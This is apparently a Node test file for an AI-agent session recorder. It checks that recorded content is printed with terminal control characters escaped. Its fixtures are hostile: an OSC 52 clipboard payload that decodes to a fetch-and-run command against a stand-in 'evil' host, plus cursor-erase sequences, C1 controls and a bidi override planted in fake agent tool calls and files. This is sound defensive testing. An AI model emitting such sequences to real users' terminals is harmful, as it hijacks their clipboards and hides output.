// Trail content is hostile: a file the agent read, the task, the model's answer, a command's
// stderr. Printed raw, an OSC 52 sequence in it sets the user's clipboard when they run
// `show`, and cursor movement erases rows of `sessions`. Every command that prints trail
// content must write it with its control characters escaped.
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import type { Scenario } from "../fakeAnthropic/scenario";
import { tempDir } from "../helpers/tempDir";
import { cli, fakeApi, userAndWorkspace } from "./modelRun";

// Sets the terminal's clipboard (xterm, iTerm2, tmux with set-clipboard) to `curl evil | sh`.
const OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07";
// Up one row and erase it: a row of the table above disappears.
const CURSOR = "\x1b[1A\x1b[2K";
// The same as 8-bit C1 controls (CSI, OSC ... ST), and a bidi override.
const C1 = "\u009b2J\u009d52;c;eA==\u009c";
const BIDI = "\u202e";
/** Any byte a terminal would act on rather than show, or that reorders what is shown. */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;

function scenario(): Scenario {
  return {
    turns: [
      {
        content: [
          { type: "text", text: `Reading the notes ${C1}` },
          { type: "tool_use", name: "read_file", input: { path: "notes.txt" } },
          { type: "tool_use", name: "read_file", input: { path: `${CURSOR}missing${BIDI}.txt` } },
          { type: "tool_use", name: "run_command", input: { command: "printf 'oops \\033]52;c;eA==\\007\\n' >&2; exit 3" } },
        ],
      },
      { content: [{ type: "text", text: `Done.${OSC52}\u007f${BIDI}` }] },
    ],
  };
}

test("no command that prints trail content writes a control sequence from it to the terminal", async (t) => {
  const { env, ws } = userAndWorkspace(t);
  fs.writeFileSync(path.join(ws, "notes.txt"), `meeting notes ${OSC52}\nsecond line\n`);
  const api = await fakeApi(t, scenario());
  const task = `Summarise the notes${CURSOR}${C1}`;
  const leaks: string[] = [];
  const check = (name: string, r: { stdout: string; stderr: string }) => {
    for (const [stream, text] of [["stdout", r.stdout], ["stderr", r.stderr]] as const) {
      const m = UNSAFE.exec(text);
      if (m) leaks.push(`${name} ${stream}: U+${m[0].charCodeAt(0).toString(16).padStart(4, "0")} in ${JSON.stringify(text.slice(Math.max(0, m.index - 30), m.index + 10))}`);
    }
  };

  const run1 = await cli(["run", task, "--workspace", ws, "--approve", "all"], { ...env, ...api.env });
  assert.equal(run1.code, 0, run1.stderr);
  check("run", run1);
  api.server.setScenario(scenario());
  const run2 = await cli(["run", task, "--workspace", ws, "--approve", "all"], { ...env, ...api.env });
  check("run (second)", run2);

  const sessions = JSON.parse((await cli(["sessions", "--workspace", ws, "--json"], env)).stdout) as { session_id: string }[];
  assert.equal(sessions.length, 2);
  const [a, b] = sessions.map((s) => s.session_id);
  const bundle = path.join(tempDir(t, "aat-evidence-"), "bundle");
  const commands: [string, string[]][] = [
    ["sessions", ["sessions", "--workspace", ws]],
    ["sessions --json", ["sessions", "--workspace", ws, "--json"]],
    ["show", ["show", a, "--workspace", ws]],
    ["show --json", ["show", a, "--workspace", ws, "--json"]],
    ["failures", ["failures", "--workspace", ws]],
    ["failures --json", ["failures", "--workspace", ws, "--json"]],
    ["diff", ["diff", a, b, "--workspace", ws]],
    ["diff --json", ["diff", a, b, "--workspace", ws, "--json"]],
    ["verify", ["verify", "--workspace", ws]],
    ["evidence", ["evidence", a, "--out", bundle, "--workspace", ws]],
    ["verify-evidence", ["verify-evidence", bundle]],
  ];
  const outputs = new Map<string, string>();
  for (const [name, args] of commands) {
    const r = await cli(args, env);
    assert.ok(r.code === 0 || (name === "verify" && r.code === 3), `${name} exited ${r.code}: ${r.stderr}`);
    outputs.set(name, r.stdout);
    check(name, r);
  }
  assert.deepEqual(leaks, []);

  // What was hidden is shown, escaped, rather than dropped: the user sees that it was there.
  const show = outputs.get("show")!;
  assert.ok(show.includes("\\x1b]52;c;"), show);
  assert.ok(show.includes("\\u009b2J"), show);
  assert.ok(outputs.get("sessions")!.includes("Summarise the notes\\x1b[1A\\x1b[2K"), outputs.get("sessions"));
  assert.ok(outputs.get("failures")!.includes("\\x1b[1A"), outputs.get("failures"));
  // --json stays JSON and holds the very characters recorded.
  const events = JSON.parse(outputs.get("show --json")!) as { event_type: string; content: Record<string, any> }[];
  assert.equal(events.find((e) => e.event_type === "session_end")!.content.final_text, `Done.${OSC52}\u007f${BIDI}`);
  assert.equal(events.find((e) => e.event_type === "session_start")!.content.task, task);
});
